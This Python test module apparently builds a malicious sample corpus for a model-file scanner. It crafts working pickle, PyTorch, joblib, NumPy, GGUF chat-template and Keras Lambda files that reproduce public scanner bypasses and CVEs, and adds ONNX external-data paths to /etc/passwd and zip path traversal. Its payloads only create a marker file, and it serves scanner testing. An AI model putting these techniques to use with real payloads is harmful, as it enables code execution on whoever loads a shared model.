"""Hostile model files whose payload only creates a marker file — the scanner's malicious corpus.

    python -m tests.scan_corpus.malicious DEST       # or: build(Path(DEST)) -> list[Case]

Every :class:`Case` names its technique, the container it hides in, the loader that runs it
(``pickle``, ``stream`` (pickle.load until EOF), ``torch``, ``joblib``, ``numpy``, ``archive``,
``jinja``), the verdict modellens must give, and the public bypass it reproduces (see
docs/scan.md).  ``verify(cases)`` loads each file with its natural loader in a subprocess
inside the corpus folder and checks the marker appeared: a sample that does not fire proves
nothing.  Cases whose loader is ``None`` (Keras without keras installed, ONNX paths, header
abuse, zip anomalies) cannot be fired here; they are structural.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import time
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

__all__ = ["Case", "build", "verify", "LOADERS"]


@dataclass
class Case:
    name: str
    path: Path
    marker: Path
    loader: str | None
    expect: str = "dangerous"  # the verdict modellens must give
    ref: str = ""  # advisory / issue reproduced
    notes: str = ""


# -- pickle assembly --------------------------------------------------------------------------

def _u(s: str) -> bytes:  # SHORT_BINUNICODE / BINUNICODE
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def _bb(b: bytes) -> bytes:  # BINBYTES
    return b"B" + struct.pack("<I", len(b)) + b


def _sg(module: str, name: str) -> bytes:  # STACK_GLOBAL
    return _u(module) + _u(name) + b"\x93"


def _g(module: str, name: str) -> bytes:  # GLOBAL
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


P2, P4 = b"\x80\x02", b"\x80\x04"
T1, T2, T3, R, STOP, EMPTY = b"\x85", b"\x86", b"\x87", b"R", b".", b")"


def _call(func: bytes, *args: bytes) -> bytes:
    tup = {0: EMPTY, 1: T1, 2: T2, 3: T3}
    if len(args) <= 3:
        return func + b"".join(args) + tup[len(args)] + R
    return func + b"(" + b"".join(args) + b"t" + R


def _touch(m: Path) -> str:
    return f"touch {m}"


def _code(m: Path) -> str:
    return f"open({str(m)!r}, 'w').close()"


class _Reduce:
    """An object whose unpickling runs ``func(*args)``."""

    def __init__(self, func: Callable, args: tuple):
        self.func, self.args = func, args

    def __reduce__(self) -> tuple:
        return self.func, self.args


def _system(m: Path) -> _Reduce:
    return _Reduce(os.system, (_touch(m),))


# -- builders ---------------------------------------------------------------------------------

CaseSpec = Callable[[Path, Path], Case]
SPECS: list[tuple[str, str | None, str, str, Callable[[Path, Path], bytes | None]]] = []


def _spec(name: str, loader: str | None, ref: str = "", expect: str = "dangerous", ext: str = ".pkl"):
    def deco(fn: Callable[[Path], bytes]) -> Callable:
        SPECS.append((name + ext, loader, ref, expect, fn))
        return fn
    return deco


PICKLESCAN = "https://github.com/mmaitre314/picklescan/security/advisories/"
FICKLING = "https://github.com/trailofbits/fickling/"
MODELSCAN = "https://github.com/protectai/modelscan/issues/"


@_spec("os_system_p0", "pickle", "classic: GLOBAL os.system, protocol 0")
def _(m):
    return _g("os", "system") + b"(S'" + _touch(m).encode() + b"'\ntR."


@_spec("posix_system_p4", "pickle", PICKLESCAN + "GHSA-655q-fx9r-782v (posix/nt aliases)")
def _(m):
    return P4 + _call(_sg("posix", "system"), _u(_touch(m))) + STOP


@_spec("builtins_exec", "pickle", "builtins.exec")
def _(m):
    return P2 + _call(_g("builtins", "exec"), _u(_code(m))) + STOP


@_spec("builtin_eval_py2", "pickle", "__builtin__.eval via fix_imports (protocol 2)")
def _(m):
    return P2 + _call(_g("__builtin__", "eval"), _u(f"__import__('os').system({_touch(m)!r})")) + STOP


@_spec("subprocess_call", "pickle", "subprocess")
def _(m):
    return P2 + b"csubprocess\ncall\n" + b"(]" + _u("touch") + b"a" + _u(str(m)) + b"atR."


@_spec("inst_opcode", "pickle", "protocol-0 INST")
def _(m):
    return b"(S'" + _touch(m).encode() + b"'\nios\nsystem\n."


@_spec("obj_opcode", "pickle", FICKLING + "pull/108 (OBJ with pty.spawn)")
def _(m):
    return b"(cpty\nspawn\n(S'sh'\nS'-c'\nS'" + _touch(m).encode() + b"'\nlo."


@_spec("getattr_import_chain", "pickle", "getattr(__import__('os'), 'system') computed callable")
def _(m):
    mod = _call(_g("builtins", "__import__"), _u("os"))
    fn = _call(_g("builtins", "getattr"), mod, _u("system"))
    return P2 + fn + _u(_touch(m)) + T1 + R + STOP


@_spec("importlib_import_module", "pickle", "importlib.import_module + getattr")
def _(m):
    mod = _call(_sg("importlib", "import_module"), _u("os"))
    fn = _call(_sg("builtins", "getattr"), mod, _u("system"))
    return P4 + fn + _u(_touch(m)) + T1 + R + STOP


@_spec("runpy_run_code", "pickle", "runpy._run_code")
def _(m):
    return P4 + _call(_sg("runpy", "_run_code"), _u(_code(m)), b"}") + STOP


@_spec("cprofile_run", "pickle", PICKLESCAN + "GHSA-46h3-79wf-xr6c (cProfile.run)")
def _(m):
    return P4 + _call(_sg("cProfile", "run"), _u(_code(m))) + STOP


@_spec("profile_run", "pickle", PICKLESCAN + "GHSA-46h3-79wf-xr6c (profile.run)")
def _(m):
    return P4 + _call(_sg("profile", "run"), _u(_code(m))) + STOP


@_spec("timeit_timeit", "pickle", PICKLESCAN + "GHSA-v7x6-rv5q-mhwc (timeit.timeit)")
def _(m):
    return P4 + _call(_sg("timeit", "timeit"), _u(_code(m)), _u("pass"),
                      _sg("time", "perf_counter"), b"K\x01") + STOP


@_spec("bdb_run", "pickle", PICKLESCAN + "GHSA-4675-36f9-wf6r (bdb.Bdb.run)")
def _(m):
    return P4 + _call(_sg("bdb", "Bdb.run"), _call(_sg("bdb", "Bdb")), _u(_code(m))) + STOP


@_spec("trace_runctx", "pickle", PICKLESCAN + "GHSA-4675-36f9-wf6r (trace.Trace.runctx)")
def _(m):
    tr = _call(_sg("trace", "Trace"), b"K\x00", b"K\x00")
    return P4 + _call(_sg("trace", "Trace.runctx"), tr, _u(_code(m)), b"}", b"}") + STOP


@_spec("code_interactive_runcode", "pickle", PICKLESCAN + "GHSA-g38g-8gr9-h9xp (code.InteractiveInterpreter.runcode)")
def _(m):
    ii = _call(_sg("code", "InteractiveInterpreter"))
    return P4 + _call(_sg("code", "InteractiveInterpreter.runcode"), ii, _u(_code(m))) + STOP


@_spec("pydoc_locate", "pickle", "pydoc.locate resolves any name")
def _(m):
    fn = _call(_sg("pydoc", "locate"), _u("os.system"))
    return P4 + fn + _u(_touch(m)) + T1 + R + STOP


@_spec("pkgutil_resolve_name", "pickle", PICKLESCAN + "GHSA-vvpj-8cmc-gx39 (pkgutil.resolve_name)")
def _(m):
    fn = _call(_sg("pkgutil", "resolve_name"), _u("os:system"))
    return P4 + fn + _u(_touch(m)) + T1 + R + STOP


@_spec("operator_attrgetter", "pickle", PICKLESCAN + "GHSA-955r-x9j8-7rhh (_operator.attrgetter)")
def _(m):
    getter = _call(_sg("_operator", "attrgetter"), _u("system"))
    mod = _call(_sg("builtins", "__import__"), _u("os"))
    return P4 + _call(getter, mod) + _u(_touch(m)) + T1 + R + STOP


@_spec("operator_methodcaller", "pickle", PICKLESCAN + "GHSA-m273-6v24-x4m4 (operator.methodcaller)")
def _(m):
    caller = _call(_sg("operator", "methodcaller"), _u("system"), _u(_touch(m)))
    mod = _call(_sg("builtins", "__import__"), _u("os"))
    return P4 + _call(caller, mod) + STOP


@_spec("functools_partial", "pickle", FICKLING + "pull/210 (functools.partial wrapper)")
def _(m):
    part = _call(_sg("functools", "partial"), _sg("os", "system"), _u(_touch(m)))
    return P4 + part + EMPTY + R + STOP


@_spec("numpy_runstring", "pickle", PICKLESCAN + " numpy.testing._private.utils.runstring")
def _(m):
    return P4 + _call(_sg("numpy.testing._private.utils", "runstring"), _u(_code(m)), b"}") + STOP


@_spec("torch_execwrapper", "pickle", "torch.jit.unsupported_tensor_ops.execWrapper (picklescan list)")
def _(m):
    return P4 + _call(_sg("torch.jit.unsupported_tensor_ops", "execWrapper"), _u(_code(m)), b"}",
                      b"}") + STOP


@_spec("torch_collect_env_run", "pickle", "torch.utils.collect_env.run (picklescan list)")
def _(m):
    return P4 + _call(_sg("torch.utils.collect_env", "run"), _u(_touch(m))) + STOP


@_spec("torch_load_from_bytes", "pickle", "nested torch.load via torch.storage._load_from_bytes")
def _(m):
    inner = pickle.dumps(_system(m), protocol=2)
    return P4 + _call(_sg("torch.storage", "_load_from_bytes"), _bb(inner)) + STOP


@_spec("pickle_loads_nested", "pickle", PICKLESCAN + "GHSA-84r2-jw7c-4r5q (nested pickle)")
def _(m):
    inner = pickle.dumps(_system(m), protocol=0)
    return P4 + _call(_sg("pickle", "loads"), _bb(inner)) + STOP


@_spec("marshal_functiontype", "pickle", "types.FunctionType(marshal.loads(code))")
def _(m):
    code = compile(_code(m), "<x>", "exec")
    co = _call(_sg("marshal", "loads"), _bb(marshal.dumps(code)))
    fn = _call(_sg("types", "FunctionType"), co, b"}")
    return P4 + fn + EMPTY + R + STOP


@_spec("shutil_copy", "pickle", "https://github.com/google/saferpickle/issues/1 (shutil)")
def _(m):
    return P4 + _call(_sg("shutil", "copyfile"), _u(sys.executable), _u(str(m))) + STOP


@_spec("distutils_write_file", "pickle", PICKLESCAN + "CVE-2025-10155 (distutils.file_util.write_file)")
def _(m):
    return P4 + _call(_sg("distutils.file_util", "write_file"), _u(str(m)), b"]") + STOP


@_spec("uuid_command_stdout", "pickle", PICKLESCAN + " uuid._get_command_stdout")
def _(m):
    return P4 + _call(_sg("uuid", "_get_command_stdout"), _u("touch"), _u(str(m))) + STOP


@_spec("osx_support_read_output", "pickle", PICKLESCAN + " _osx_support._read_output")
def _(m):
    return P4 + _call(_sg("_osx_support", "_read_output"), _u(_touch(m))) + STOP


@_spec("imaplib_stream", "pickle", PICKLESCAN + " imaplib.IMAP4_stream")
def _(m):
    return P4 + _call(_sg("imaplib", "IMAP4_stream"), _u(_touch(m))) + STOP


@_spec("mailcap_findmatch", "pickle", "https://github.com/protectai/modelscan/pull/346 (mailcap.findmatch)")
def _(m):
    caps = b"}" + _u("text/plain") + b"]}" + _u("view") + _u("true") + b"s" + _u("test") + \
        _u(_touch(m)) + b"sas"
    return P4 + _call(_sg("mailcap", "findmatch"), caps, _u("text/plain")) + STOP


@_spec("lib2to3_grammar_loads", "pickle", PICKLESCAN + "GHSA-r8g5-cgf2-4m4m (lib2to3 Grammar.loads)")
def _(m):
    inner = pickle.dumps(_system(m), protocol=2)
    g = _call(_sg("lib2to3.pgen2.grammar", "Grammar"))
    return P4 + _call(_sg("lib2to3.pgen2.grammar", "Grammar.loads"), g, _bb(inner)) + STOP


@_spec("numpy_builtins_dict", "pickle", MODELSCAN + "89 (numpy.__builtins__ + dict.get)")
def _(m):
    ex = _call(_g("builtins", "dict.get"), _g("numpy", "__builtins__"), _u("exec"))
    return b"\x80\x05" + ex + _u(_code(m)) + T1 + R + STOP


@_spec("numpy_sys_modules_build", "pickle", MODELSCAN + "89 (BUILD on numpy.prod + dotted sys.modules)")
def _(m):
    return (b"\x80\x05" + _g("numpy", "prod") + b"N" + _g("numpy", "core._internal.sys.modules")
            + T2 + b"b0" + _call(_g("numpy", "prod.os.system"), _u(_touch(m))) + STOP)


@_spec("dotted_print_self", "pickle", MODELSCAN + "338 (builtins-only attribute walk)")
def _(m):
    return P4 + _call(_sg("builtins", "print.__self__.exec"), _u(_code(m))) + STOP


@_spec("sys_modules_get", "pickle", "sys.modules tricks")
def _(m):
    mod = _call(_sg("sys", "modules.get"), _u("os"))
    fn = _call(_sg("builtins", "getattr"), mod, _u("system"))
    return P4 + fn + _u(_touch(m)) + T1 + R + STOP


@_spec("stack_global_computed", "pickle", "STACK_GLOBAL with computed operands (obfuscation)")
def _(m):
    mod = _call(_sg("builtins", "str"), _u("os"))
    return P4 + mod + _u("system") + b"\x93" + _u(_touch(m)) + T1 + R + STOP


@_spec("memo_overwrite", "pickle", "https://github.com/mmaitre314/picklescan/issues/22 (memo games)")
def _(m):
    # memo 0 first holds a harmless name, then is overwritten: scanners that track memo by
    # position instead of by value see 'builtins', the unpickler sees 'os'
    return (P4 + _u("builtins") + b"\x94" + b"0" + _u("os") + b"q\x00" + b"0"
            + b"h\x00" + _u("system") + b"\x93" + _u(_touch(m)) + T1 + R + STOP)


@_spec("ctypes_cdll", "pickle", "ctypes (picklescan list)")
def _(m):
    lib = _call(_sg("ctypes", "CDLL"), b"N")
    fn = _call(_sg("builtins", "getattr"), lib, _u("system"))
    return P4 + fn + _bb(_touch(m).encode()) + T1 + R + STOP


@_spec("proto_mismatch", "pickle", "protocol-4 opcodes under PROTO 2 (C unpickler does not check)")
def _(m):
    return P2 + _call(_sg("os", "system"), _u(_touch(m))) + STOP


@_spec("truncated_after_reduce", "pickle", "parse error after the payload ran", expect="dangerous")
def _(m):
    return P2 + _call(_g("os", "system"), _u(_touch(m))) + b"\x8c\xff"


@_spec("after_stop", "stream", "a second pickle after STOP (multi-pickle loaders)")
def _(m):
    return pickle.dumps({"w": [1, 2, 3]}, protocol=4) + pickle.dumps(_system(m), protocol=4)


@_spec("newlines_p0", "pickle", "https://github.com/mmaitre314/picklescan/pull/26 (newline-terminated handcrafted)")
def _(m):
    return b"cos\nsystem\n(S'" + _touch(m).encode() + b"'\ntR.\n\n"


@_spec("mixed_case_ext", "pickle", PICKLESCAN + "GHSA-769v-p64c-89pr (extension-based dispatch)", ext=".PKL")
def _(m):
    return pickle.dumps(_system(m), protocol=4)


@_spec("no_extension", "pickle", "https://github.com/mmaitre314/picklescan/issues/5 (extension agnostic)", ext="")
def _(m):
    return pickle.dumps(_system(m), protocol=2)


# -- containers written by the frameworks -----------------------------------------------------

def _torch_bytes(obj: Any, **kw: Any) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    return buf.getvalue()


@_spec("torch_zip", "torch", "torch.save of an object with __reduce__", ext=".pt")
def _(m):
    import torch

    return _torch_bytes({"w": torch.zeros(2), "x": _system(m)})


@_spec("torch_zip_bin", "torch", "pytorch_model.bin with payload", ext=".bin")
def _(m):
    import torch

    return _torch_bytes({"w": torch.ones(3), "x": _system(m)})


def _rezip(raw: bytes, edit: Callable[[zipfile.ZipInfo], None] | None = None,
           rename: Callable[[str], str] | None = None) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info)
            ni = zipfile.ZipInfo(rename(info.filename) if rename else info.filename, info.date_time)
            if edit:
                edit(ni)
            dst.writestr(ni, data)
    return out.getvalue()


@_spec("torch_zip_renamed_root", "torch", PICKLESCAN + "GHSA-769v-p64c-89pr (non-standard names)", ext=".ckpt")
def _(m):
    import torch

    return _rezip(_torch_bytes({"w": torch.ones(1), "x": _system(m)}),
                  rename=lambda n: "weights.v2-final/" + n.split("/", 1)[1])


@_spec("torch_zip_flag_bits", None, PICKLESCAN + "GHSA-w8jq-xcqf-f792 (zip flag bits; torch 2.13 now refuses them too)", ext=".pt")
def _(m):
    import torch

    raw = bytearray(_torch_bytes({"w": torch.ones(1), "x": _system(m)}))
    zf = zipfile.ZipFile(io.BytesIO(bytes(raw)))
    for info in zf.infolist():  # set the "encrypted" bit: zipfile refuses, torch ignores
        struct.pack_into("<H", raw, info.header_offset + 6,
                         struct.unpack_from("<H", raw, info.header_offset + 6)[0] | 1)
    cd = raw.rfind(b"PK\x05\x06")
    (cd_off,) = struct.unpack_from("<I", raw, cd + 16)
    p = cd_off
    while raw[p : p + 4] == b"PK\x01\x02":
        struct.pack_into("<H", raw, p + 8, struct.unpack_from("<H", raw, p + 8)[0] | 1)
        n, x, c = struct.unpack_from("<HHH", raw, p + 28)
        p += 46 + n + x + c
    return bytes(raw)


@_spec("torch_zip_header_mismatch", "torch", PICKLESCAN + "GHSA-7q5r-7gvp-wc82 (zipfile refuses, torch loads)", ext=".pt")
def _(m):
    import torch

    raw = bytearray(_torch_bytes({"w": torch.ones(1), "x": _system(m)}))
    info = next(i for i in zipfile.ZipFile(io.BytesIO(bytes(raw))).infolist()
                if i.filename.endswith("data.pkl"))
    o = info.header_offset + 30
    (n,) = struct.unpack_from("<H", raw, info.header_offset + 26)
    raw[o : o + n] = raw[o : o + n].replace(b"data.pkl", b"dat4.pkl")  # local name only
    return bytes(raw)


@_spec("torch_legacy", "torch", "torch.save(_use_new_zipfile_serialization=False)", ext=".pt")
def _(m):
    import torch

    return _torch_bytes({"w": torch.ones(2), "x": _system(m)}, _use_new_zipfile_serialization=False)


@_spec("torch_legacy_trailing", "stream", "a pickle hidden after the legacy storages", ext=".pth")
def _(m):
    import torch

    # torch.load stops after the storages; a stream reader (or a patched loader) goes on
    return _torch_bytes({"w": torch.ones(2)}, _use_new_zipfile_serialization=False) + \
        pickle.dumps(_system(m), protocol=2)


@_spec("torch_tar", "torch", "the oldest torch tar format", ext=".tar")
def _(m):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:", format=tarfile.PAX_FORMAT) as tf:
        for name, body in (("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                                     "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)),
                           ("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)), ("tensors", pickle.dumps(0, 2)),
                           ("pickle", pickle.dumps(_system(m), 2))):
            ti = tarfile.TarInfo(name)
            ti.size = len(body)
            tf.addfile(ti, io.BytesIO(body))
    return out.getvalue()


@_spec("torch_polyglot_pickle_zip", "torch", "polyglot: pickle in front, torch zip behind", ext=".pt")
def _(m):
    import torch

    return pickle.dumps(_system(m), protocol=2) + _torch_bytes({"w": torch.ones(2)})


@_spec("torchscript_constants", None, "TorchScript archive with a hostile constants.pkl", ext=".pt")
def _(m):
    import torch

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("constants.pkl"):
                data = pickle.dumps(_system(m), protocol=2)
            dst.writestr(info.filename, data)
    return out.getvalue()


def _joblib(m: Path, compress: Any) -> bytes:
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump({"coef": np.arange(4.0), "x": _system(m)}, buf, compress=compress)
    return buf.getvalue()


@_spec("joblib_plain", "joblib", "joblib.dump with raw numpy payloads between pickles", ext=".joblib")
def _(m):
    return _joblib(m, 0)


for _c in ("zlib", "gzip", "bz2", "lzma", "xz"):
    def _mk(c: str) -> Callable:
        def f(m: Path) -> bytes:
            return _joblib(m, (c, 3))
        return f
    _spec(f"joblib_{_c}", "joblib", f"joblib compress={_c!r}", ext=".joblib")(_mk(_c))


@_spec("npy_object", "numpy", "np.save of an object array (allow_pickle)", ext=".npy")
def _(m):
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array([_system(m), 1], dtype=object), allow_pickle=True)
    return buf.getvalue()


@_spec("npz_object_member", "numpy", "an object array member of an .npz", ext=".npz")
def _(m):
    import numpy as np

    buf = io.BytesIO()
    np.savez(buf, w=np.arange(3), x=np.array([_system(m)], dtype=object))
    return buf.getvalue()


def _member_archive(kind: str, m: Path) -> bytes:
    payload = pickle.dumps(_system(m), protocol=4)
    out = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("README.md", "a model")
            z.writestr("model/weights.pkl", payload)
    elif kind == "tar.gz":
        with tarfile.open(fileobj=out, mode="w:gz") as tf:
            ti = tarfile.TarInfo("model/weights.pkl")
            ti.size = len(payload)
            tf.addfile(ti, io.BytesIO(payload))
    else:
        import py7zr

        with py7zr.SevenZipFile(out, "w") as z:
            z.writestr(payload, "model/weights.pkl")
    return out.getvalue()


_spec("archive_zip", "archive", "a pickle inside a shared .zip", ext=".zip")(lambda m: _member_archive("zip", m))
_spec("archive_targz", "archive", "a pickle inside a .tar.gz", ext=".tar.gz")(lambda m: _member_archive("tar.gz", m))
_spec("archive_7z", "archive", PICKLESCAN + " (7z members)", ext=".7z")(lambda m: _member_archive("7z", m))


@_spec("gguf_template_ssti", "jinja", "CVE-2024-34359 (llama-cpp-python chat template SSTI)", ext=".gguf")
def _(m):
    import gguf
    import numpy as np

    tpl = ("{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
           "{{ x()._module.__builtins__['__import__']('os').system('" + _touch(m) + "') }}"
           "{% endif %}{% endfor %}")
    path = m.parent / f"_tmp_{m.name}.gguf"
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_chat_template(tpl)
    w.add_tensor("w", np.ones(4, dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    data = path.read_bytes()
    path.unlink()
    return data


@_spec("gguf_template_cycler", "jinja", "chat template through cycler.__init__.__globals__", ext=".gguf")
def _(m):
    import gguf
    import numpy as np

    tpl = "{{ cycler.__init__.__globals__.os.system('" + _touch(m) + "') }}{{ messages }}"
    path = m.parent / f"_tmp_{m.name}.gguf"
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_chat_template(tpl)
    w.add_tensor("w", np.ones(4, dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    data = path.read_bytes()
    path.unlink()
    return data


def _lambda_config(m: Path, keras3: bool) -> dict:
    code = base64.b64encode(marshal.dumps(compile(_code(m), "<lambda>", "exec"))).decode()
    if keras3:
        fn: Any = {"module": "builtins", "class_name": "function", "registered_name": "function",
                   "config": {"code": code, "defaults": None, "closure": None}}
    else:
        fn = [code, None, None]
    return {"class_name": "Sequential", "config": {"name": "s", "layers": [
        {"class_name": "InputLayer", "config": {"batch_shape": [None, 2], "name": "in"}},
        {"class_name": "Lambda", "config": {"name": "evil", "function": fn,
                                            "function_type": "lambda"}}]}}


@_spec("keras_h5_lambda", None, "Keras .h5 Lambda layer with marshalled bytecode (CVE-2024-3660)", ext=".h5")
def _(m):
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["model_config"] = json.dumps(_lambda_config(m, False))
        f.attrs["keras_version"] = "2.15.0"
    return buf.getvalue()


@_spec("keras_v3_lambda", None, "Keras 3 .keras Lambda layer (safe_mode bypass CVE-2025-1550 family)", ext=".keras")
def _(m):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.3.3"}))
        z.writestr("config.json", json.dumps(_lambda_config(m, True)))
    return out.getvalue()


@_spec("keras_custom_object", None, "Keras custom object from an arbitrary module", expect="suspicious", ext=".keras")
def _(m):
    out = io.BytesIO()
    cfg = {"class_name": "Sequential", "module": "keras", "config": {"layers": [
        {"class_name": "Evil", "module": "attacker.layers", "registered_name": "attacker>Evil",
         "config": {}}]}}
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.3.3"}))
        z.writestr("config.json", json.dumps(cfg))
    return out.getvalue()


@_spec("zip_path_traversal", None, "zip member named ../../ (path traversal on extraction)", expect="suspicious", ext=".zip")
def _(m):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("../../evil.txt", "x")
    return out.getvalue()


@_spec("safetensors_header_oob", None, "safetensors header length beyond the file", expect="suspicious", ext=".safetensors")
def _(m):
    hdr = json.dumps({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
    return struct.pack("<Q", len(hdr) + 1000) + hdr


@_spec("safetensors_overlap", None, "safetensors overlapping tensors", expect="suspicious", ext=".safetensors")
def _(m):
    hdr = json.dumps({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                      "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}).encode()
    return struct.pack("<Q", len(hdr)) + hdr + b"\x00" * 24


@_spec("gguf_absurd_count", None, "GGUF absurd tensor count", expect="suspicious", ext=".gguf")
def _(m):
    return b"GGUF" + struct.pack("<IQQ", 3, 1 << 40, 0) + b"\x00" * 32


@_spec("tensorrt_plugin", None, "TensorRT engine embedding a plugin library", ext=".engine")
def _(m):
    return b"\x00" * 4 + b"ftrt" + b"\x00" * 56 + b"\x7fELF\x02\x01\x01" + b"\x00" * 64


def _onnx_external(m: Path, location: str) -> bytes:
    import numpy as np
    import onnx
    from onnx import helper, numpy_helper

    t = numpy_helper.from_array(np.ones(4, dtype=np.float32), "W")
    t.ClearField("raw_data")
    t.data_location = onnx.TensorProto.EXTERNAL
    for k, v in (("location", location), ("offset", "0"), ("length", "16")):
        e = t.external_data.add()
        e.key, e.value = k, v
    g = helper.make_graph([helper.make_node("Identity", ["W"], ["Y"])], "g", [],
                          [helper.make_tensor_value_info("Y", onnx.TensorProto.FLOAT, [4])], [t])
    return helper.make_model(g).SerializeToString()


_spec("onnx_external_abs", None, "ONNX external data at an absolute path", ext=".onnx")(
    lambda m: _onnx_external(m, "/etc/passwd"))
_spec("onnx_external_dotdot", None, "ONNX external data escaping with ..", ext=".onnx")(
    lambda m: _onnx_external(m, "../../secret.bin"))


# -- building and firing ----------------------------------------------------------------------

def build(dest: Path, only: list[str] | None = None) -> list[Case]:
    dest.mkdir(parents=True, exist_ok=True)
    markers = dest / "markers"
    markers.mkdir(exist_ok=True)
    cases = []
    for fname, loader, ref, expect, fn in SPECS:
        stem = fname.split(".")[0]
        if only is not None and stem not in only:
            continue
        marker = markers / stem
        try:
            data = fn(marker)
        except ImportError:
            continue
        p = dest / fname
        p.write_bytes(data)
        cases.append(Case(stem, p, marker, loader, expect, ref))
    return cases


LOADERS = {
    "pickle": "import pickle\nwith open(p, 'rb') as f: pickle.load(f)",
    "stream": "import pickle\nwith open(p, 'rb') as f:\n  while True:\n    try: pickle.load(f)\n    except EOFError: break\n    except Exception: f.read(1)",
    "torch": "import torch\ntorch.load(p, weights_only=False)",
    "joblib": "import joblib\njoblib.load(p)",
    "numpy": "import numpy as np\nd = np.load(p, allow_pickle=True)\n[d[k] for k in d.files] if hasattr(d, 'files') else d",
    "archive": ("import pickle, zipfile, tarfile, io\n"
                "if p.endswith('.zip'):\n  z = zipfile.ZipFile(p); [pickle.loads(z.read(n)) for n in z.namelist() if n.endswith('.pkl')]\n"
                "elif p.endswith('.7z'):\n  import py7zr\n  from py7zr.io import BytesIOFactory\n  f = BytesIOFactory(1<<30)\n  py7zr.SevenZipFile(p).extractall(factory=f)\n  [pickle.loads(v.read()) for v in f.products.values()]\n"
                "else:\n  t = tarfile.open(p); [pickle.loads(t.extractfile(m).read()) for m in t.getmembers() if m.isfile()]"),
    "jinja": ("import gguf, jinja2\nr = gguf.GGUFReader(p)\nf = r.fields['tokenizer.chat_template']\n"
              "t = bytes(f.parts[f.data[0]]).decode()\n"
              "jinja2.Environment().from_string(t).render(messages=[], add_generation_prompt=True)"),
}


def verify(cases: list[Case], timeout: float = 240) -> dict[str, bool]:
    """Load every case with its natural loader in a subprocess (cwd: the corpus folder);
    returns name -> fired (the marker exists afterwards).  One process per loader kind."""
    fired: dict[str, bool] = {}
    by_loader: dict[str, list[Case]] = {}
    for c in cases:
        if c.loader is not None:
            by_loader.setdefault(c.loader, []).append(c)
    for loader, group in by_loader.items():
        script = ("import sys, warnings\nwarnings.simplefilter('ignore')\n"
                  "for p in sys.argv[1:]:\n  try:\n" +
                  "".join(f"    {ln}\n" for ln in ("exec(" + repr(LOADERS[loader]) + ", {'p': p})",)) +
                  "  except BaseException as e:\n    pass\n")
        subprocess.run([sys.executable, "-c", script, *[str(c.path) for c in group]],
                       cwd=str(group[0].path.parent), capture_output=True, timeout=timeout,
                       stdin=subprocess.DEVNULL)
        deadline = time.time() + 2
        for c in group:
            while not c.marker.exists() and time.time() < deadline:
                time.sleep(0.05)
            fired[c.name] = c.marker.exists()
    return fired


if __name__ == "__main__":  # pragma: no cover
    made = build(Path(sys.argv[1]))
    for c in made:
        print(c.name, c.loader, c.expect, c.path)
    if "--verify" in sys.argv:
        print(verify(made))
